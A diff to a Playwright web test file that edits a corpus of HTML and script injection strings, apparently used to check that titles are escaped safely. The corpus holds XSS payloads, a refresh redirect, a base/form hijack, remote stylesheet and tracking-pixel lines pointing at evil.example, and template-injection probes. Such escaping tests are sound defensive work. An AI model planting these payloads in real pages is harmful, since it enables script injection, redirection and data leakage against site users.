@@ -6,6 +6,7 @@ from playwright.sync_api import expect
 
 from tests.web.conftest import MeetPerson
 
+# None is longer than a title may be, so that each is shown whole in all three places.
 CORPUS = [
     "<script>alert(1)</script>",
     "</div></li></ol></template><script>alert(2)</script>",
@@ -18,7 +19,7 @@ CORPUS = [
     "</title><script>alert(11)</script>",
     "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
     "<meta http-equiv=refresh content='0;url=//evil.example/'>",
-    "<base href=//evil.example/><form action=//evil.example/><button>Send</button></form>",
+    "<base href=//evil.example/><form action=//evil.example/><button>Send",
     "![x](http://evil.example/pixel.png) <img src=http://evil.example/pixel.png>",
     "{{ 7*7 }} ${7*7} {% raw %} &lt;b&gt; &#60;script&#62;",
     "--><!--<script>alert(12)</script>",
